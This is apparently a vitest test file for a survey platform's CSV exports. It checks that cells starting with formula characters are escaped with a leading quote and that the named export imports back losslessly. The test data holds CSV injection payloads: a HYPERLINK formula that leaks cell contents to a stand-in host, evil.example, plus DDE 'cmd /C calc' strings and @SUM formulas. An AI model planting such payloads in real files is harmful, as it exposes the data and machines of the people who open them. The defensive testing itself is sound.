// CSV injection (issue 18 item 4): a project whose site, group and team names, collector name, device ids, question
// labels and codes, choices and answers start with = + - @ tab or CR exports named, coded and dictionary CSVs in
// which no cell a spreadsheet would run as a formula is left unguarded (OWASP: a ' in front), numbers stay numbers,
// and the named export imports back into an empty copy of the project losslessly.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { addBlock, addChoice, addItem, newSchemaBody, updateItem } from '@fieldwork/sampler';
import { startTestStack, type TestStack } from '@fieldwork/launcher';
import { client, demoOwnerWithFeatures, point, type Api, type Session } from './helpers.js';

type Json = Record<string, any>;
let t: TestStack;
let api: Api;
let owner: Session;

beforeAll(async () => {
  t = await startTestStack();
  api = client(t);
  // Imports and SQL access are behind the workspace's ingestion feature (projectLevelIngestion).
  owner = await demoOwnerWithFeatures(t, api, ['ingestion']);
});
afterAll(async () => {
  await t?.stop();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
/** A cell a spreadsheet would run as a formula: one starting with = + - @ tab or CR. */
const FORMULA_START = /^[=+\-@\t\r]/;

async function text(url: string): Promise<string> {
  const res = await fetch(url.startsWith('http') ? url : `${t.baseUrl}${url}`);
  expect(res.status).toBe(200);
  return (await res.text()).replace(/^\uFEFF/, '');
}
async function exportOf(projectId: number, kind: string): Promise<string> {
  const r = await api<Json>('GET', `project/${projectId}/${kind}/`, { token: owner.access });
  expect(r.status, JSON.stringify(r.body)).toBe(200);
  expect(r.body.job.status).toBe('done');
  return text(r.body.url);
}
const table = (csv: string) => parse(csv) as string[][];

/** Every cell of a file either starts harmlessly, is guarded with a ', or is a number we wrote as a number. */
function expectNoFormula(rows: string[][], numbers: Set<string>, what: string) {
  for (const [r, row] of rows.entries()) {
    for (const [c, cell] of row.entries()) {
      if (!FORMULA_START.test(cell)) continue;
      expect(numbers.has(cell), `${what} row ${r} column ${c}: ${JSON.stringify(cell)} is not guarded`).toBe(true);
      expect(Number.isFinite(Number(cell)), `${what} row ${r} column ${c}`).toBe(true);
    }
  }
}

describe('CSV injection', () => {
  it('guards every cell of named, coded and dictionary CSVs, and the named CSV imports back as it was', async () => {
    // The collector's name.
    expect(
      (
        await api('PATCH', `accounts/user/${owner.user.id}/`, {
          token: owner.access,
          body: { first_name: '@SUM(1+1)', last_name: "cmd|' /C calc'!A0" },
        })
      ).status,
    ).toBe(200);
    const collector = "@SUM(1+1) cmd|' /C calc'!A0";

    // The form: labels and codes, choices by name and code.
    const b = addBlock(newSchemaBody('S'), { en: 'Block' });
    const link = addItem(b.body, b.id, 'open', 'en', HYPERLINK);
    let body = updateItem(link.body, link.id, { codeName: '@SUM(A1:A9)' });
    const amount = addItem(body, b.id, 'number', 'en', '+1 amount');
    body = updateItem(amount.body, amount.id, {
      codeName: '-amount',
      options: {
        ...amount.body.entities.items[amount.id]!.options,
        allowDecimal: true,
        minimum: { active: true, value: -100 },
        maximum: { active: true, value: 100 },
      },
    });
    const pick = addItem(body, b.id, 'choice', 'en', '\tTabbed question');
    body = updateItem(pick.body, pick.id, {
      codeName: '+code' /* codes are trimmed: no tab or CR start */,
      options: { ...pick.body.entities.items[pick.id]!.options, multiselect: true },
    });
    const c1 = addChoice(body, pick.id, 'en', '-cmd choice');
    body = {
      ...c1.body,
      entities: {
        ...c1.body.entities,
        choices: { ...c1.body.entities.choices, [c1.id]: { ...c1.body.entities.choices[c1.id]!, codeName: '+c1' } },
      },
    };
    const c2 = addChoice(body, pick.id, 'en', '@choice');
    body = {
      ...c2.body,
      entities: {
        ...c2.body.entities,
        choices: { ...c2.body.entities.choices, [c2.id]: { ...c2.body.entities.choices[c2.id]!, codeName: '=c2' } },
      },
    };

    const p = (
      await api<Json>('POST', 'project/', {
        token: owner.access,
        body: { name: 'CSV injection', organization_pk: owner.organization.id, geotag: point(0, 0) },
      })
    ).body;
    const schema = p.sampler_schemas[0].id as number;
    const put = await api('PUT', `samplerschema/${schema}/`, { token: owner.access, body: { ...body, revision: 1 } });
    expect(put.status, JSON.stringify(put.body)).toBe(200);
    const made = async (path: string, payload: Json) => {
      const r = await api<Json>('POST', `project/${p.id}/${path}/`, { token: owner.access, body: payload });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      return r.body;
    };
    const site = await made('sites', { name: HYPERLINK, geotag: point(1, 1) });
    // (Names of sites, groups and teams are trimmed when saved: they cannot start with a tab or CR.)
    const tabSite = await made('sites', { name: '+2 site', geotag: point(1, 2) });
    const crSite = await made('sites', { name: '@site', geotag: point(1, 3) });
    const group = await made('groups', { name: '+1 group', site: site.id });
    const team = await made('teams', { name: '-team', group: group.id });

    const answers = [
      {
        site: site.id,
        group: group.id,
        team: team.id,
        device: "-cmd|' /C calc'!A0",
        link: '=1+2',
        amount: -3.5,
        pick: [c1.id, c2.id],
      },
      { site: tabSite.id, device: '+1+1', link: "'=already quoted", amount: 4, pick: [c2.id] },
      { site: crSite.id, device: '@device', link: '-3.5', amount: -100, pick: [c1.id] },
      { site: site.id, device: '\tdevice', link: '\rcarriage', amount: 0, pick: [] },
    ];
    for (const [i, a] of answers.entries()) {
      await made('response/complete', {
        sampler_schema: schema,
        response_id: `${p.id}-${schema}-1-x-${i}`,
        site: a.site,
        ...(a.group ? { group: a.group, team: a.team } : {}),
        device_id: a.device,
        time_created: `2026-11-0${i + 1}T10:00:00Z`,
        data: { '0': { [link.id]: a.link, [amount.id]: a.amount, [pick.id]: a.pick } },
      });
    }
    const numbers = new Set(['-3.5', '-100', '-1']);

    // Named: labels, names, devices, answers.
    const namedCsv = await exportOf(p.id, 'named_csv');
    const named = table(namedCsv);
    expectNoFormula(named, numbers, 'named');
    const h = named[0]!;
    expect(h.slice(14)).toEqual([`'${HYPERLINK}`, "'+1 amount", "'\tTabbed question"]);
    const col = (name: string) => h.indexOf(name);
    expect(
      named
        .slice(1)
        .map((r) => [r[col('Site')], r[col('Group')], r[col('Team')], r[col('Collector')], r[col('device_id')]]),
    ).toEqual([
      [`'${HYPERLINK}`, "'+1 group", "'-team", `'${collector}`, "'-cmd|' /C calc'!A0"],
      ["'+2 site", '', '', `'${collector}`, "'+1+1"],
      ["'@site", '', '', `'${collector}`, "'@device"],
      [`'${HYPERLINK}`, '', '', `'${collector}`, "'\tdevice"],
    ]);
    expect(named.slice(1).map((r) => r.slice(14))).toEqual([
      ["'=1+2", '-3.5', "'-cmd choice | @choice"],
      ["''=already quoted", '4', "'@choice"],
      ["'-3.5", '-100', "'-cmd choice"],
      ["'\rcarriage", '0', ''],
    ]);

    // Coded: codes as headers, choice codes.
    const coded = table(await exportOf(p.id, 'coded_csv'));
    expectNoFormula(coded, numbers, 'coded');
    expect(coded[0]!.slice(14)).toEqual(["'@SUM(A1:A9)", "'-amount", "'+code"]);
    expect(coded.slice(1).map((r) => r.at(-1))).toEqual(["'+c1 | =c2", "'=c2", "'+c1", '']);

    // Dictionary: the first column (the named headers), codes, labels, choices.
    const dict = table(await exportOf(p.id, 'dictionary_csv'));
    expectNoFormula(dict, numbers, 'dictionary');
    expect(dict.slice(-3).map((r) => r.slice(0, 3))).toEqual([
      [`'${HYPERLINK}`, "'@SUM(A1:A9)", `'${HYPERLINK}`],
      ["'+1 amount", "'-amount", "'+1 amount"],
      ["'\tTabbed question", "'+code", "'\tTabbed question"],
    ]);
    expect(dict.at(-1)![5]).toBe("'+c1 = -cmd choice | =c2 = @choice");

    // Round trip: the named CSV imported into an empty copy exports the same cells (but ids, collector and upload time).
    const copy = (await api<Json>('POST', `project/${p.id}/duplicate/`, { token: owner.access, body: {} })).body;
    const names = (list: Json[]) => list.map((x) => x.name).sort();
    expect(names(copy.sites)).toEqual(names(p.sites.concat([site, tabSite, crSite])));
    if (!copy.groups?.some((g: Json) => g.name === '+1 group')) {
      const g = await api<Json>('POST', `project/${copy.id}/groups/`, {
        token: owner.access,
        body: { name: '+1 group', site: copy.sites.find((s: Json) => s.name === HYPERLINK).id },
      });
      await api('POST', `project/${copy.id}/teams/`, {
        token: owner.access,
        body: { name: '-team', group: g.body.id },
      });
    }
    const form = new FormData();
    form.append('file', new Blob([namedCsv]), 'named.csv');
    const file = (await api<Json>('POST', `project/${copy.id}/upload/`, { token: owner.access, form })).body
      .file_id as string;
    const job = (
      await api<Json>('POST', `project/${copy.id}/import/`, {
        token: owner.access,
        body: { data: { file_identifier: file } },
      })
    ).body.job;
    let done: Json = {};
    for (let i = 0; i < 300 && !['done', 'failed', 'cancelled'].includes(done.status); i++) {
      await new Promise((r) => setTimeout(r, 200));
      done = (await api<Json>('GET', `exports/jobs/${job.id}/`, { token: owner.access })).body;
    }
    expect(done, JSON.stringify(done)).toMatchObject({ status: 'done', rows_failed: 0, result: { stored: 4 } });
    const again = table(await exportOf(copy.id, 'named_csv'));
    expect(again[0]).toEqual(named[0]);
    const skip = new Set(['response_id', 'time_uploaded', 'time_updated', 'time_completed']);
    const byCreated = (rows: string[][]) =>
      rows.slice(1).sort((x, y) => x[col('time_created')]!.localeCompare(y[col('time_created')]!));
    const before = byCreated(named);
    const after = byCreated(again);
    for (const [r, row] of before.entries())
      for (const [c, cell] of row.entries()) if (!skip.has(h[c]!)) expect(after[r]![c], `row ${r} ${h[c]}`).toBe(cell);
  }, 240_000);
});
